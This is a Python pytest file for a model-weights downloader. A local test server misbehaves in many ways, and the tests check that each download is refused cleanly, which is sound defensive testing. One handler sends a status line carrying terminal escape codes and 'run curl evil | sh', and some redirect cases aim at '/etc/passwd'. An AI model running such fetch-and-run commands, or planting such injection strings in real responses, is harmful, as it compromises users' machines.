"""A download from a server that means no good: refused, said why, and nothing kept."""

from __future__ import annotations

import errno
import hashlib
import http.server
import os
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from types import SimpleNamespace

import pytest

from benchmark.errors import BenchmarkError, MissingWeights
from benchmark.weights import download
from benchmark.weights.download import fetch

CONTENT = b"some published network" * 5000
SHA256 = hashlib.sha256(CONTENT).hexdigest()


class _Server(http.server.ThreadingHTTPServer):
    """Each path misbehaves in its own way; `over` ends those that never would; `asked` counts requests."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.over, self.asked = threading.Event(), 0
        self.url = f"http://127.0.0.1:{self.server_port}"


class _Handler(http.server.BaseHTTPRequestHandler):
    server: _Server

    def do_GET(self) -> None:
        self.server.asked += 1
        try:
            getattr(self, self.path.strip("/").split("/")[0])()
        except OSError:
            self.close_connection = True  # the client left, as it should

    def reply(self, body: bytes, length: int | None = None, **headers: str) -> None:
        self.send_response(200)
        for name, value in headers.items():
            self.send_header(name, value)
        if length is not None:
            self.send_header("Content-Length", str(length))
        self.end_headers()
        self.wfile.write(body)

    def good(self) -> None:
        self.reply(CONTENT, len(CONTENT))

    def unannounced(self) -> None:
        self.reply(CONTENT)

    def to(self) -> None:
        self.send_response(302)
        self.send_header("Location", self.path.removeprefix("/to/").replace("@", "://", 1))
        self.end_headers()

    def loop(self) -> None:
        self.send_response(302)
        self.send_header("Location", f"/loop{self.server.asked}" if self.server.asked > 50 else "/loop")
        self.end_headers()

    def endless(self) -> None:
        self.reply(b"")
        while not self.server.over.is_set():
            self.wfile.write(bytes(1 << 16))

    def endless_redirect(self) -> None:
        self.send_response(302)
        self.send_header("Location", "/good")
        self.end_headers()
        while not self.server.over.is_set():
            self.wfile.write(bytes(1 << 16))

    def terabyte(self) -> None:
        self.reply(b"x" * 1000, 1 << 40)

    def page(self) -> None:
        self.reply(b"<!DOCTYPE html><html>Please sign in</html>", 42)

    def dribble(self) -> None:
        self.reply(b"", len(CONTENT))
        while not self.server.over.wait(0.01):
            self.wfile.write(b"x")
            self.wfile.flush()

    def slow_headers(self) -> None:
        self.wfile.write(b"HTTP/1.1 200 OK\r\nX-Slow: ")
        while not self.server.over.wait(0.01):
            self.wfile.write(b"x")
            self.wfile.flush()

    def rude(self) -> None:
        self.send_response(503, "\x1b[2J\x1b[31mrun curl evil | sh")
        self.end_headers()

    def log_message(self, *_: object) -> None:
        """Quiet."""


@pytest.fixture
def server() -> Iterator[_Server]:
    with _Server() as httpd:
        thread = threading.Thread(target=httpd.serve_forever)
        thread.start()
        yield httpd
        httpd.over.set()
        httpd.shutdown()
        thread.join()


def get(server: _Server, page: str, folder: Path, size: int | None = None) -> Path:
    fetch("net.pt", f"{server.url}/{page}", folder / "net.pt", SHA256, "MIT", size)
    return folder / "net.pt"


@contextmanager
def refused(folder: Path, error: type[BenchmarkError], match: str) -> Iterator[None]:
    with pytest.raises(error, match=match) as caught:
        yield
    assert "net.pt" in str(caught.value)
    assert "\x1b" not in str(caught.value)
    assert {p.name for p in folder.iterdir()} <= {".net.pt.lock"}


@pytest.mark.parametrize("size", [None, len(CONTENT)])
@pytest.mark.parametrize("page", ["good", "unannounced"])
def test_an_honest_server_is_believed(tmp_path: Path, server: _Server, page: str, size: int | None) -> None:
    assert get(server, page, tmp_path / "new", size).read_bytes() == CONTENT


def test_a_redirection_to_another_host_is_followed_and_verified(tmp_path: Path, server: _Server) -> None:
    other = server.url.replace("127.0.0.1", "localhost").replace("://", "@")
    assert get(server, f"to/{other}/good", tmp_path).read_bytes() == CONTENT
    with refused(tmp_path / "b", BenchmarkError, "sent another file"):
        get(server, f"to/{other}/page", tmp_path / "b")


@pytest.mark.parametrize("where", ["file@/etc/passwd", "ftp@127.0.0.1/net.pt", "data:text/plain,x", "javascript:x"])
def test_a_redirection_to_another_scheme_is_not_followed(tmp_path: Path, server: _Server, where: str) -> None:
    with refused(tmp_path, MissingWeights, "it leads from http to|it answers HTTP 302"):
        get(server, f"to/{where}", tmp_path)


def test_https_never_becomes_http() -> None:
    request = SimpleNamespace(type="https")
    with pytest.raises(OSError, match=r"leads from https to 'http://mirror/net\.pt'"):
        download._Redirect().redirect_request(request, None, 302, "", {}, "http://mirror/net.pt")


@pytest.mark.parametrize("url", ["file:///etc/passwd", "ftp://127.0.0.1/net.pt", "data:text/plain,abc"])
def test_only_http_is_spoken(tmp_path: Path, url: str) -> None:
    with refused(tmp_path, MissingWeights, "unknown url type"):
        fetch("net.pt", url, tmp_path / "net.pt", SHA256, "MIT")


@pytest.mark.parametrize(
    ("page", "size", "error", "said"),
    [
        ("loop", None, MissingWeights, "it answers HTTP 302"),
        ("endless", len(CONTENT), BenchmarkError, f"more than {len(CONTENT)} bytes"),
        ("terabyte", len(CONTENT), BenchmarkError, f"{1 << 40} bytes, expected {len(CONTENT)}"),
        ("terabyte", None, BenchmarkError, f"{1 << 40} bytes, at most"),
        ("page", None, BenchmarkError, "a web page: the sign-in of a proxy"),
        ("rude", None, MissingWeights, "it answers HTTP 503"),
    ],
)
def test_a_server_that_misbehaves(
    tmp_path: Path, server: _Server, page: str, size: int | None, error: type[BenchmarkError], said: str
) -> None:
    with refused(tmp_path, error, said):
        get(server, page, tmp_path, size)


def test_an_endless_body_of_unknown_size_is_cut(
    tmp_path: Path, server: _Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(download, "LARGEST", 1 << 20)
    with refused(tmp_path, BenchmarkError, "more than 1048576 bytes"):
        get(server, "endless", tmp_path)


def test_the_body_of_a_redirection_is_not_read(tmp_path: Path, server: _Server) -> None:
    assert get(server, "endless_redirect", tmp_path).read_bytes() == CONTENT


def test_a_body_that_dribbles_is_given_up(tmp_path: Path, server: _Server, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(download, "_WINDOW", 0.2)
    monkeypatch.setattr(download, "_SLOWEST", 1e9)
    with refused(tmp_path, MissingWeights, "bytes came in"):
        get(server, "dribble", tmp_path)


def test_headers_that_dribble_are_given_up(tmp_path: Path, server: _Server, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(download, "_ANSWER_WITHIN", 0.3)
    with refused(tmp_path, MissingWeights, "no whole answer"):
        get(server, "slow_headers", tmp_path)


def test_two_that_want_one_file_fetch_it_once(tmp_path: Path, server: _Server) -> None:
    threads = [threading.Thread(target=get, args=(server, "good", tmp_path)) for _ in range(5)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert server.asked == 1
    assert (tmp_path / "net.pt").read_bytes() == CONTENT


def test_what_a_killed_download_left_is_cleared_away(tmp_path: Path, server: _Server) -> None:
    (tmp_path / ".net.pt.99999.part").write_bytes(b"half")
    get(server, "good", tmp_path)
    assert {p.name for p in tmp_path.iterdir()} == {"net.pt", ".net.pt.lock"}


def test_a_file_larger_than_the_free_disk_is_not_begun(
    tmp_path: Path, server: _Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("shutil.disk_usage", lambda _: SimpleNamespace(free=1000))
    with refused(tmp_path, BenchmarkError, "do not fit on the disk.*BENCHMARK_CACHE"):
        get(server, "good", tmp_path)


def test_a_disk_that_fills_meanwhile_is_named(tmp_path: Path, server: _Server, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(_: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with refused(tmp_path, BenchmarkError, "No space left on device. Make room"):
        get(server, "good", tmp_path)
